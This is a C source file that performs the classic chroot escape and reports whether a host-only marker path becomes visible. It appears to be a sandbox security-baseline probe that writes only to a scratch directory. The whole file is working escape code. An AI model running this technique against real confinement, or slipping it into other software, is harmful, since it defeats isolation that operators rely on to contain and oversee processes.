/* The classic chroot escape (security-baseline P2).
 *
 * usage: escape SCRATCH_DIR MARKER
 * chroot into SCRATCH_DIR/esc (a subdirectory), chdir("..") 64 times and
 * chroot(".") again: under plain chroot the cwd is left outside the new
 * root, so this climbs to the real root. Prints "HOST FILESYSTEM REACHED"
 * if MARKER (a path that only exists on the host) is then visible, and
 * "still inside" otherwise. Never writes anything but the scratch dir.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    char esc[4096];
    if (argc != 3) { fprintf(stderr, "usage: escape SCRATCH MARKER\n"); return 2; }
    snprintf(esc, sizeof esc, "%s/esc", argv[1]);
    mkdir(esc, 0755);
    if (chdir(argv[1]) != 0) { printf("chdir: %s\n", strerror(errno)); return 3; }
    if (chroot(esc) != 0) { printf("chroot: %s\n", strerror(errno)); return 4; }
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) { printf("chroot .: %s\n", strerror(errno)); return 5; }
    if (access(argv[2], F_OK) == 0) { printf("HOST FILESYSTEM REACHED\n"); return 0; }
    printf("still inside\n");
    return 0;
}
